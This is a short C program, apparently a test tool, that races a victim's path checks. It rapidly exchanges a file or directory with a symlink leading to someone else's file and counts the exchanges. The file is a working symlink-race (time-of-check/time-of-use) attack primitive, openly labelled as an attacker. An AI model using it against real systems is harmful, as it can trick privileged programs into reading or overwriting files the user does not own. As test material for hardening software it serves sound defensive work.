/*
 * An attacker who exchanges two names of his own as fast as the machine can: a directory, or a
 * file, and a link to what is somebody else's.  Whoever looks at a path once and uses it again
 * later may find the one at first and the other then.
 *
 *     swap_attack <name> <name of the link> <where the link leads>
 *
 * A link that was replaced is made again.  Goes on until the standard input ends, and prints then
 * how often the names were exchanged.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <unistd.h>

enum { ROUNDS = 64 };

int main(int count, char **arguments) {
    struct pollfd input = {.fd = 0, .events = POLLIN};
    unsigned long exchanges = 0;
    char text[1];

    if (count != 4)
        return 2;
    while (poll(&input, 1, 0) == 0) {
        for (int round = 0; round < ROUNDS; round++)
            exchanges += renameat2(AT_FDCWD, arguments[1], AT_FDCWD, arguments[2],
                                   RENAME_EXCHANGE) == 0;
        if (readlink(arguments[1], text, sizeof text) < 0 &&
            readlink(arguments[2], text, sizeof text) < 0) {
            (void)unlink(arguments[2]);
            if (symlink(arguments[3], arguments[2]) != 0)
                perror("symlink");
        }
    }
    return printf("%lu\n", exchanges) < 0;
}
